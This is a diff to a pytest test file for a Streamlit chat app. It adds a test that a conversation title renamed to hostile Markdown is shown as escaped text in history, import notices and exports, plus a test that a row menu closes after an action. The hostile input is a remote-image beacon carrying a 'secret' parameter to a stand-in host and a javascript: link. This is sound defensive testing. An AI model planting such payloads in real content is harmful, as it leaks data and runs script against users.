@@ -14,7 +14,7 @@ import pytest
 from streamlit.testing.v1 import AppTest
 
 from ablt_core.emulator import Fault
-from webapp import chat, history
+from webapp import chat, history, markdown
 from webapp.state import Keys
 from webapp.store import ConversationNotFound, ConversationStore
 
@@ -282,3 +282,41 @@ def test_a_title_with_markdown_is_listed_as_typed(logged_in: Login) -> None:
     (label,) = history_titles(at).values()
     # The label is escaped Markdown: Streamlit shows it exactly as typed.
     assert label == r"Why is \*\*bold\*\* \$x\^2\$ \[here\]\(x\)?"
+
+
+def test_a_title_renamed_to_an_image_or_a_script_link_is_text_everywhere(
+    logged_in: Login, app_store: ConversationStore
+) -> None:
+    # Issue 12, remote content: a rename to Markdown must not load an image or
+    # make a link in the History row, the import notice or the export.
+    hostile = "![](http://host.example/t?secret=1) [go](javascript:alert(1))"
+    at = logged_in("demo-member")
+    send(at, "Hello")
+    cid = conversation(at).id
+    at.text_input(key=f"chat_rename_text_{cid}").input(hostile)
+    click(at, f"chat_rename_{cid}")
+    label = history_titles(at)[cid]
+    assert label == markdown.escape(hostile)
+    assert "![" not in label and "](" not in label  # no image or link syntax left
+
+    member = at.session_state[Keys.MEMBER]
+    exported = chat.export_json(app_store, member, cid).encode()
+    at.file_uploader[0].set_value(("t.json", exported, "application/json"))
+    at.run()
+    notice = at.success[0].value
+    assert markdown.escape(hostile) in notice and "![" not in notice
+    assert chat.export_markdown(app_store, member, cid).startswith(
+        r"# \!\[\](http://host.example/t?secret=1) \[go\](javascript:alert(1))"
+    )
+
+
+def test_a_history_rows_menu_closes_once_its_action_is_done(logged_in: Login) -> None:
+    at = logged_in()
+    send(at, "Trip to Rome")
+    rome = conversation(at).id
+    menu = f"chat_row_menu_{rome}"
+    for action in (f"chat_rename_{rome}", f"chat_pin_{rome}", f"chat_delete_{rome}"):
+        at.session_state[menu] = True  # the member opened the ⋮ menu
+        at.run()
+        click(at, action)
+        assert at.session_state[menu] is False, f"{action} left the menu open"
